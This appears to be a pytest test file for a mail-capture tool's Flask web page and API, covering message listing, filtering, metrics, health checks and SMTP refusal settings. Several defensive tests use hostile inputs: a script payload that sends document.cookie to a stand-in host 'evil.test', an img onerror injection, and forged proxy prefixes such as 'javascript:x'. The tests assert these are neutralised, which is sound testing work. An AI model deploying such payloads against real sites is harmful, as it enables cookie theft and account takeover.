"""The page and the API: what they answer, under a prefix too, and that no mail can do anything to who reads it."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest
from flask.testing import FlaskClient
from promontory_mailbox.metrics import Metrics
from promontory_mailbox.refusal import Refusals
from promontory_mailbox.store import Store, Summary
from promontory_mailbox.web import ago, create_app, state_of

SCRIPT = "<script>fetch('//evil.test/' + document.cookie)</script>"


@pytest.fixture
def store(tmp_path: Path) -> Store:
    return Store(tmp_path, max_messages=100, max_total_bytes=10_000_000)


@pytest.fixture
def serving() -> list[bool]:
    """Say whether SMTP is served; tests may change it."""
    return [True]


@pytest.fixture
def client(store: Store, serving: list[bool]) -> FlaskClient:
    return create_app(store, Metrics(store), Refusals(), lambda: serving[0]).test_client()


def deliver(store: Store, subject: str = "hello", html: str | None = "<p>Hi</p>", text: str = "Hi") -> Summary:
    mail = EmailMessage()
    mail["Subject"] = subject
    mail["From"] = "Alertmanager <am@lab.test>"
    mail.set_content(text)
    if html is not None:
        mail.add_alternative(html, subtype="html")
    return store.add(mail.as_bytes(), sender="am@lab.test", recipients=["oncall@lab.test"], peer="::1", hostname="box")


def test_the_list_is_newest_first_with_what_a_program_needs(client: FlaskClient, store: Store) -> None:
    deliver(store, "first")
    second = deliver(store, "second")

    listed = client.get("/api/messages").get_json()

    assert [entry["subject"] for entry in listed] == ["second", "first"]
    assert listed[0] == {
        "id": second.id,
        "received": second.received.isoformat().replace("+00:00", "Z"),
        "from": "Alertmanager <am@lab.test>",
        "to": ["oncall@lab.test"],
        "subject": "second",
        "size": second.size,
    }


def test_the_list_is_narrowed_by_subject_time_and_number(client: FlaskClient, store: Store) -> None:
    first, second, third = (deliver(store, subject) for subject in ("[CRITICAL] Größe", "[critical] b", "[INFO] c"))

    def ids(**query: Any) -> list[str]:
        return [entry["id"] for entry in client.get("/api/messages", query_string=query).get_json()]

    assert ids(subject="critical") == [second.id, first.id]
    assert ids(subject="größe") == [first.id]
    assert ids(since=first.received.isoformat()) == [third.id, second.id]
    assert ids(since=first.received.isoformat().replace("+00:00", "Z")) == [third.id, second.id]
    assert ids(since=first.received.replace(tzinfo=None).isoformat()) == [third.id, second.id]
    assert ids(since=second.received.timestamp()) == [third.id]
    assert ids(since="0", limit="1") == [third.id]
    assert ids(since=(third.received + timedelta(hours=1)).isoformat()) == []


@pytest.mark.parametrize(
    ("query", "said"),
    [
        ({"since": "yesterday"}, "since is 'yesterday', expected ISO 8601"),
        ({"since": "nan"}, "since is 'nan'"),
        ({"since": "1e400"}, "since is '1e400'"),
        ({"since": "99999999999999999"}, "since is '99999999999999999'"),
        ({"limit": "0"}, "limit is '0', expected a whole number"),
        ({"limit": "-1"}, "limit is '-1'"),
        ({"limit": "٣"}, "limit is '٣'"),
        ({"limit": "9" * 5000}, "limit is '999"),
    ],
    ids=lambda value: str(value)[:30],
)
def test_a_wrong_query_is_refused_with_the_value(client: FlaskClient, query: dict[str, str], said: str) -> None:
    answer = client.get("/api/messages", query_string=query)

    assert answer.status_code == 400
    assert said in answer.get_json()["error"]


def test_a_message_is_given_with_its_parts_and_as_it_was_sent(client: FlaskClient, store: Store) -> None:
    summary = deliver(store, "Überlauf", "<p>voll</p>", "voll")

    message = client.get(f"/api/messages/{summary.id}").get_json()
    raw = client.get(f"/api/messages/{summary.id}/raw")

    assert message["subject"] == "Überlauf"
    assert (message["text"].strip(), message["html"].strip()) == ("voll", "<p>voll</p>")
    assert {"name": "Delivered-To", "value": "oncall@lab.test"} in message["headers"]
    assert (message["attachments"], message["problems"]) == ([], [])
    found = store.get(summary.id)
    assert found
    assert raw.data == found[1]
    assert raw.mimetype == "message/rfc822"
    assert raw.headers["Content-Disposition"].startswith("attachment")


@pytest.mark.parametrize("path", ["/api/messages/nothing", "/api/messages/nothing/raw", "/api/none"])
def test_the_api_answers_errors_in_json(client: FlaskClient, path: str) -> None:
    answer = client.get(path)

    assert answer.status_code == 404
    assert answer.get_json()["error"]


def test_delete_empties_the_mailbox(client: FlaskClient, store: Store) -> None:
    deliver(store)
    deliver(store)

    assert client.delete("/api/messages").get_json() == {"deleted": 2}
    assert client.get("/api/messages").get_json() == []
    assert b"No mail yet" in client.get("/").data


@pytest.mark.parametrize("view", ["html", "text", "headers", "raw", "nonsense"])
def test_a_page_is_no_way_in_for_a_hostile_mail(client: FlaskClient, store: Store, view: str) -> None:
    hostile = f"\"'></title>{SCRIPT}<img src=x onerror=alert(1)>"
    summary = deliver(store, f"=?utf-8?q?{hostile}?=", f"<body>{SCRIPT}</body>", hostile)

    for page in (client.get("/"), client.get(f"/messages/{summary.id}?view={view}"), client.get(f"/?q={SCRIPT}")):
        assert page.status_code == 200
        assert b"<script" not in page.data
        assert b"<img src=x" not in page.data
        policy = page.headers["Content-Security-Policy"]
        assert "default-src 'none'" in policy
        assert "script-src" not in policy
        assert "unsafe-inline" not in policy


def test_html_is_shown_in_a_sandbox_that_runs_and_loads_nothing(client: FlaskClient, store: Store) -> None:
    summary = deliver(store, html=f"<!doctype html><body onload=x()>{SCRIPT}<b>shown</b></body>")

    page = client.get(f"/messages/{summary.id}").get_data(as_text=True)
    frame = client.get(f"/messages/{summary.id}/html")

    assert f'src="/messages/{summary.id}/html"' in page
    assert 'sandbox="allow-popups allow-popups-to-escape-sandbox"' in page
    policy = dict(part.strip().partition(" ")[::2] for part in frame.headers["Content-Security-Policy"].split(";"))
    assert policy["default-src"] == "'none'"
    assert policy["img-src"] == "data:"
    assert policy["sandbox"] == "allow-popups allow-popups-to-escape-sandbox"
    assert "script-src" not in policy
    assert b"<b>shown</b>" in frame.data
    assert frame.headers["X-Content-Type-Options"] == "nosniff"


def test_a_mail_without_html_is_shown_as_text(client: FlaskClient, store: Store) -> None:
    summary = deliver(store, html=None, text="only <text>")

    page = client.get(f"/messages/{summary.id}").data

    assert b"only &lt;text&gt;" in page
    assert b"<iframe" not in page
    assert client.get(f"/messages/{summary.id}/html").status_code == 404


@pytest.mark.parametrize("content", [b"", b"\x00\xff" * 500, b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b"])
def test_a_broken_mail_has_all_its_pages(client: FlaskClient, store: Store, content: bytes) -> None:
    summary = store.add(content, sender="", recipients=[], peer="::1", hostname="box")

    for path in ("/", f"/messages/{summary.id}", f"/messages/{summary.id}?view=raw", f"/api/messages/{summary.id}"):
        assert client.get(path).status_code == 200


def test_subjects_are_searched_on_the_page(client: FlaskClient, store: Store) -> None:
    deliver(store, "disk full")
    deliver(store, "target down")

    page = client.get("/?q=DISK").data

    assert b"disk full" in page
    assert b"target down" not in page


@pytest.mark.parametrize("path", ["/", "/mail/"])
def test_links_carry_the_prefix_whether_or_not_the_proxy_strips_it(
    client: FlaskClient, store: Store, path: str
) -> None:
    summary = deliver(store)

    page = client.get(path, headers={"X-Forwarded-Prefix": "/mail"}).get_data(as_text=True)

    assert f'href="/mail/messages/{summary.id}"' in page
    assert 'href="/mail/static/style.css"' in page
    assert 'href="/messages' not in page


@pytest.mark.parametrize("prefix", ["//evil.test", "/a b", "javascript:x", '/a"><script>', "/../.."])
def test_a_hostile_prefix_has_no_effect(client: FlaskClient, store: Store, prefix: str) -> None:
    deliver(store)

    page = client.get("/", headers={"X-Forwarded-Prefix": prefix})

    assert page.status_code == 200
    assert b"evil.test" not in page.data
    assert b"<script" not in page.data


def test_metrics_count_what_is_kept(client: FlaskClient, store: Store) -> None:
    deliver(store)

    text = client.get("/metrics").get_data(as_text=True)

    assert "mailbox_messages_stored 1.0" in text
    assert f"mailbox_stored_bytes {float(store.total_bytes)}" in text
    assert "mailbox_messages_received_total 0.0" in text
    assert "mailbox_messages_evicted_total 0.0" in text


def test_health_is_that_mail_is_taken(client: FlaskClient, serving: list[bool]) -> None:
    assert client.get("/healthz").get_json()["status"] == "ok"

    serving[0] = False

    assert client.get("/healthz").status_code == 503


@pytest.mark.parametrize(
    ("seconds", "said"),
    [(0, "just now"), (59, "just now"), (60, "1 min ago"), (7199, "1 h ago"), (86400 * 3, "3 d ago"), (-5, "just now")],
)
def test_how_long_ago(seconds: int, said: str) -> None:
    now = datetime.now(UTC)

    assert ago(now - timedelta(seconds=seconds), now) == said


@pytest.mark.parametrize(
    ("subject", "state"),
    [
        ("[FIRING:3][critical][prod] HostDown host @ web1", "critical"),
        ("[FIRING:12][warning] HostDown", "warning"),
        ("[RESOLVED:3][critical][prod] HostDown host @ web1", "resolved"),
        ("[FIRING:1][page] TheirAlert", ""),
        ("Re: [FIRING:3][critical][prod] HostDown", ""),
    ],
)
def test_the_state_of_an_alert_is_read_from_its_subject(subject: str, state: str) -> None:
    assert state_of(subject) == state


def test_mail_is_refused_until_it_is_taken_again(client: FlaskClient) -> None:
    assert client.get("/api/refusal").get_json() == {"refusal": None}

    begun = client.put("/api/refusal", json={"code": 451, "stage": "rcpt", "for_s": 30, "times": 2}).get_json()

    assert begun == {"refusal": {"code": 451, "stage": "rcpt", "for_s": 30, "times": 2, "given": 0}}
    assert client.delete("/api/refusal").get_json() == {"refusal": None}
    assert client.get("/api/refusal").get_json() == {"refusal": None}


@pytest.mark.parametrize(
    ("wish", "said"),
    [
        ({}, "code is None, expected a whole number from 400 to 599"),
        ({"code": 250}, "code is 250"),
        ({"code": "451"}, "code is '451'"),
        ({"code": True}, "code is True"),
        ({"code": 451, "stage": "hello"}, "stage is 'hello', expected one of connect, mail, rcpt, data"),
        ({"code": 451, "for_s": 0}, "for_s is 0, expected a whole number from 1 to 86400"),
        ({"code": 451, "times": -1}, "times is -1"),
        ({"code": 451, "minutes": 5}, "unknown keys ['minutes']"),
        ([451], "expected a mapping with code, found list"),
    ],
    ids=str,
)
def test_a_wrong_wish_to_refuse_is_named(client: FlaskClient, wish: Any, said: str) -> None:
    answer = client.put("/api/refusal", json=wish)

    assert answer.status_code == 400
    assert said in answer.get_json()["error"]
    assert client.get("/api/refusal").get_json() == {"refusal": None}


def test_a_form_of_a_foreign_page_cannot_stop_the_mail(client: FlaskClient) -> None:
    """A browser sends forms to anybody without asking; JSON it does not."""
    answer = client.put("/api/refusal", data='{"code": 451}', content_type="text/plain")

    assert answer.status_code == 415
    assert client.get("/api/refusal").get_json() == {"refusal": None}
